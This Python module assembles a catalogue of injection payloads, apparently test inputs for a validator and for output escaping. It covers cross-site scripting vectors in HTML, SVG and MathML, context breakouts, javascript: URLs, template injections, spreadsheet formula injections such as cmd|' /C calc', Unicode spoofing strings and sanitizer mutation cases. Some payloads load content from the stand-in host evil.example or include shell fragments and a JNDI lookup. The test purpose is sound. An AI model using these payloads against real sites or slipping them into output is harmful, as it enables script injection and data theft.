"""Texts that break into pages, tables and terminals whose author forgot to escape one place.

Every payload that could run calls `hostileCanary`. Each is at most 128 characters, so that it fits
into every field. Sources: the OWASP filter evasion and DOM-based cross-site scripting sheets, the
mutation cases of DOMPurify's tests, the template injections of PayloadsAllTheThings, and OWASP's
page on CSV injection.
"""

from __future__ import annotations

import hashlib
import itertools
import math

from policies.ground.canonical import identifier_fault

_RUN = "hostileCanary(1)"
_EVENTS = (
    "onabort", "onanimationend", "onauxclick", "onbeforeinput", "onbegin", "onblur",
    "oncanplay", "onchange", "onclick", "onclose", "oncopy", "oncut", "ondblclick", "ondrag",
    "ondrop", "onend", "onerror", "onfocus", "onfocusin", "onhashchange", "oninput",
    "oninvalid", "onkeydown", "onload", "onloadstart", "onmessage", "onmousedown",
    "onmouseover", "onpageshow", "onpaste", "onpointerenter", "onpopstate", "onreset",
    "onresize", "onscroll", "onsearch", "onselect", "onsubmit", "ontoggle", "ontouchstart",
    "ontransitionend", "onunload", "onwheel",
)  # fmt: skip
_ELEMENTS = (
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script >{_RUN}</script >",
    "<script src=//evil.example/x.js></script>", f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</script>", f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}", f"<script\x0c>{_RUN}</script>", f"<script type=module>{_RUN}</script>",
    "<script type=importmap>{\"imports\":{}}</script>", f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror={_RUN}//", f"<img/src=x/onerror={_RUN}>", f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src='x'onerror='{_RUN}'>", f"<img src=`x`onerror={_RUN}>",
    f"<img srcset=x onerror={_RUN}>", "<img src=//evil.example/p.png>",
    f"<image src=x onerror={_RUN}>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>", f"<body onload={_RUN}>", f"<body onpageshow={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
    "<iframe src=//evil.example></iframe>", f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}></object>", "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>", "<style>@import '//evil.example';</style>",
    f"<form action=javascript:{_RUN}><button>sign in</button></form>",
    "<form action=//evil.example><input name=csrf></form>",
    f"<button formaction=javascript:{_RUN}>x</button>", f"<isindex action=javascript:{_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", f"<details open ontoggle={_RUN}>x</details>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<x contenteditable onblur={_RUN}>y</x>",
    f"<dialog open onclose={_RUN}>x</dialog>", f"<div popover id=p onbeforetoggle={_RUN}>",
    f"<template><script>{_RUN}</script></template>", f"<slot onslotchange={_RUN}>x</slot>",
    f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>",
    "<plaintext>", "<xmp><b>", "<listing>", "<noscript><p title='</noscript><img src=x>'>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set onbegin={_RUN} end=1s>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'/></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>", "<svg><image href=//evil.example/x>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>", f"<math><annotation-xml><script>{_RUN}</script>",
)  # fmt: skip
_BREAKOUTS = (
    f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>", f"\"><img src=x onerror={_RUN}>",
    f"'><img src=x onerror={_RUN}>", f"\" autofocus onfocus={_RUN} x=\"",
    f"' autofocus onfocus={_RUN} x='", f"x onmouseover={_RUN}", f"` onmouseover={_RUN} `",
    f"\"/onclick={_RUN}//", f"\" style=\"animation-name:x\" onanimationstart=\"{_RUN}",
    f"</td></tr></table><script>{_RUN}</script>", f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>", f"</select><img src=x onerror={_RUN}>",
    f"</option></select><script>{_RUN}</script>", f"</code></pre><script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
    f"</svg><script>{_RUN}</script>", f"</a><img src=x onerror={_RUN}>", "</main></body></html>",
    f"</button></form><form action=//evil.example><script>{_RUN}</script>",
    f"</template><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"--!><img src=x onerror={_RUN}>", f"]]><script>{_RUN}</script>", "<!--", "<!-- -- >",
    f"<![CDATA[<script>{_RUN}</script>]]>", f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"<!--><img src=x onerror={_RUN}>-->", f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    "<!DOCTYPE html>", f"<!ENTITY x '<script>{_RUN}</script>'>",
    f"';{_RUN};//", f"\";{_RUN};//", f"\\';{_RUN};//", f"-{_RUN}-", f"${{{_RUN}}}",
    f"`;{_RUN};`", f"*/{_RUN}/*", "}*{background:url(//evil.example)}",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f" javascript:{_RUN}", f"java\tscript:{_RUN}",
    f"javascript&colon;{_RUN}", f"&#106;avascript:{_RUN}", f"javascript://%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"vbscript:{_RUN}", f"view-source:javascript:{_RUN}", "//evil.example/", "\\\\evil.example\\",
    "https://evil.example/?next=/console", "/console/../../evil", "../..", "..", ".", "/",
    "a/b?c=d&e=f#g", "%2e%2e%2f", "%00", "%3Cscript%3E", "?id=x&done=approved", "#main",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endblock %}",
    "{# comment #}", "{{ self._TemplateReference__context }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", "{{{x}}}", "[[7*7]]", "%(name)s %s %d",
    "{0} {name} {", "@{x}", "*{7*7}", "~{x}", "$(id)", "`id`", "; ls", "| cat", "${jndi:ldap://x}",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1",
    "@SUM(1+1)", "\t=1+1", "\uff1d1+1", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "\",=1+1,\"", ";=1+1;", "a,b;c\td\"e'f", "-2+3+cmd|' /C calc'!A0", "%0A=1+1",
)  # fmt: skip
_LETTERS = (
    "\u202egnp.exe", "\u2066\u202eadmin\u2069", "\u200b\u200c\u200d\ufeff", "a\u200bdmin",
    "\u0430dmin", "ad\u00admin", "\ufdfd" * 8, "Z\u0351\u0363\u0344a\u030a\u0327lgo\u0315\u0321",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u2028line\u2029paragraph", "\u0085next",
    "\uff1cscript\uff1ehostileCanary(1)\uff1c/script\uff1e", "\u02bascript\u02b9", "\ufffd\ufffe",
    "\U000e0041\U000e0042", "W" * 128, "i" * 128, "ab " * 42, "\u0130\u0131", "null", "None",
    "undefined", "true", "NaN", "0", "-1", "1e308", "__proto__", "constructor", "toString",
)  # fmt: skip
_ENTITIES = (
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;img src=x onerror={_RUN}&#62;", "&quot;&apos;",
    "&amp;amp;", "&nbsp;", "&#x0;", "&notit;", f"\\u003cscript\\u003e{_RUN}", f"\\x3cb\\x3e{_RUN}",
    f"+ADw-script+AD4-{_RUN}", f"<a href=\"&#x6a;avascript:{_RUN}\">x</a>",
)  # fmt: skip
_MUTATIONS = (
    f"<noscript><style></noscript><img src=x onerror={_RUN}>",
    f"<svg></p><style><g title=\"</style><img src=x onerror={_RUN}>\">",
    f"<math><mi><b><xss><mglyph><style><img src=x onerror={_RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<table><td><svg><desc><td><style><img src=x onerror={_RUN}>",
    f"<select><template><style><!--</style><a rel=\"--></style><img src=x onerror={_RUN}>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={_RUN} )//</stYle/</titLe/--!>",
    f"'\"--></style></script><svg onload={_RUN}>", f"\"'><svg/onload={_RUN}>{{{{7*7}}}}=1+1",
)  # fmt: skip

_HANDLERS = tuple(f'<b {event}="{_RUN}">{event}</b>' for event in _EVENTS)
_CLASSES = (
    *(_ELEMENTS, _BREAKOUTS, _ADDRESSES, _TEMPLATES, _FORMULAS, _LETTERS, _ENTITIES, _MUTATIONS),
    _HANDLERS,
)

PAYLOADS: tuple[str, ...] = tuple(itertools.chain(*_CLASSES))
NAMES = tuple(each for each in PAYLOADS if identifier_fault(each) is None)
"""The payloads that an identifier may be."""


def some_of_each_class() -> tuple[str, ...]:
    """A sixth of each class's payloads, and at least four; and those that no identifier may be. A
    digest chooses, so a new payload changes the choice by one at most."""
    chosen: list[str] = []
    for payloads in _CLASSES:
        names = [each for each in payloads if each in NAMES]
        names.sort(key=lambda each: hashlib.sha256(each.encode()).digest())
        chosen += names[: max(4, math.ceil(len(payloads) / 6))]
    return (*chosen, *(each for each in PAYLOADS if each not in NAMES))
